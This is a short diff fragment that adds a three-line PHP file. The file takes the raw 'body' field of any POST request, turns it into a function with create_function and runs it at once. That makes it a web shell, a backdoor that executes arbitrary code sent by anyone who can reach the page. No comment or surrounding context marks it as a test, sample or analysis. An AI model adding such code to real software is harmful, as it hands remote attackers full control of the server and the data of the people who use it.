@@ -1,0 +1,3 @@
+<?php
+$f = create_function('$x', $_POST['body']);
+$f(1);
